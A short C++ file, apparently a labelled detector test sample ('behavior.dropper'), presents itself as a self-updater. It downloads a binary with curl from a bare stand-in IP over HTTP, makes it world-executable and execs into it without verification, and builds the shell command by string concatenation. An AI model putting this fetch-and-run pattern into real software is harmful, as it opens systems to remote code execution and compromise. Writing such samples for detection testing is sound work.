// blind-expect: behavior.dropper
// Self-updater that downloads a new build of the agent and re-executes into it.
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <iostream>
#include <string>
#include <unistd.h>

namespace fs = std::filesystem;

struct UpdateConfig {
    std::string url;
    std::string stagingPath;
    int attempts;
};

static UpdateConfig g_cfg{"http://198.51.100.23/builds/latest/agent", "/var/tmp/agent.new", 3};

static bool downloadTo(const std::string &url, const std::string &path)
{
    std::string cmd = "curl -s -f -o " + path + " " + url;
    return std::system(cmd.c_str()) == 0;
}

static void makeRunnable(const fs::path &p)
{
    fs::permissions(p,
                    fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                        fs::perms::others_read | fs::perms::others_exec,
                    fs::perm_options::replace);
}

int main(int argc, char **argv, char **envp)
{
    (void)argc;
    bool ok = false;
    for (int i = 0; i < g_cfg.attempts && !ok; ++i) {
        ok = downloadTo(g_cfg.url, g_cfg.stagingPath);
        if (!ok)
            sleep(2);
    }
    if (!ok) {
        std::cerr << "update failed\n";
        return 1;
    }

    makeRunnable(g_cfg.stagingPath);
    std::cout << "restarting into new build" << std::endl;

    std::string self = g_cfg.stagingPath;
    argv[0] = const_cast<char *>(self.c_str());
    execve(self.c_str(), argv, envp);
    std::perror("execve");
    return 1;
}
